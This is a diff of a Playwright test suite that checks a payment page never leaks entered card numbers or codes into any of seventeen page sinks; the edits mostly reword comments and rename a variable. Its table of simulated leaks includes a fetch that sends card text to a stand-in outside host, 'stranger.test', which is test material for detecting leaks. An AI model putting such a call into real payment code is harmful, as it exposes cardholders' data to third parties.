@@ -25,16 +25,16 @@ async function enter(cardFields: CardFields, { number, code, by }: Entry): Promi
   }
 }
 
-/** Every eighth of the forty in `npm test`: each way of entering. */
+/** Every eighth of the forty cards in `npm test`, so that each way of entering is included. */
 const tried = isLong ? entries : entries.filter((_, place) => place % 8 === 7);
 
-test('K25 seventeen-sinks: no part of a number that is entered and no code is in any sink of the page', async ({
+test('K25 seventeen-sinks: no sink of the page contains a part of an entered number or a code', async ({
   shop,
   cardFields,
   page,
   site,
 }) => {
-  test.setTimeout(180_000); // a dozen seconds on a machine that does nothing else
+  test.setTimeout(180_000); // This takes about twelve seconds on an idle machine.
   expect(tried).toHaveLength(isLong ? 40 : 5);
   const watch = await watchSinks(page, site);
   await shop.orderAtOnce();
@@ -57,12 +57,12 @@ test('K25 seventeen-sinks: no part of a number that is entered and no code is in
   await cardFields.fill(cards.limited);
   const payment = await shop.press();
   await shop.expectResult(payment, 'Payment received');
-  // The page tells times of two digits, which half a code may be by chance.
+  // The page shows times with two digits, which can equal half a code by chance.
   const whole = tried.map(({ number, code }) => ({ number, code: code.length > 2 ? code : '' }));
   expect(createFinder([...whole, { number: cards.limited, code: '' }], before)(await watch.read())).toEqual({});
 });
 
-/** What a leaky build does with a card, one for each sink. They run in the page. */
+/** Ways in which a faulty build can leak a card, one for each sink. They run in the page. */
 const leaks: Readonly<Record<Sink, (text: string) => unknown>> = {
   'DOM text': (text) => document.body.append(text),
   attributes: (text) => document.body.setAttribute('data-card', text),
@@ -92,7 +92,7 @@ const leaks: Readonly<Record<Sink, (text: string) => unknown>> = {
   'CSP reports': (text) => fetch(`http://stranger.test/${encodeURIComponent(text)}`).catch(() => {}),
 };
 
-test('K25 seventeen-sinks: what leaks into a sink is found in that sink and in no other', async ({
+test('K25 seventeen-sinks: a leak into one sink is found in that sink only', async ({
   shop,
   cardFields,
   page,
@@ -114,14 +114,14 @@ test('K25 seventeen-sinks: what leaks into a sink is found in that sink and in n
   expect([findNumbers(before), findCodes(before)]).toEqual([{}, {}]);
   for (const { leak, number } of planted)
     await page.evaluate(leak, `part ${number.slice(4, 8)} ${number.slice(8, 10)}, code ${number.slice(16)}`);
-  const found = async () => {
+  const findAll = async () => {
     const texts = await watch.read();
     return [findNumbers(texts), findCodes(texts)];
   };
   const each = Object.fromEntries(planted.map(({ sink }, place) => [sink, [place]]));
-  await expect.poll(found).toEqual([each, each]);
+  await expect.poll(findAll).toEqual([each, each]);
 });
 
-/** Twenty digits that are in no page by chance. */
+/** Twenty digits that no page contains by chance. */
 const digitsOf = (seed: string): string =>
   Array.from(createHash('sha256').update(seed).digest().subarray(0, 20), (byte) => byte % 10).join('');
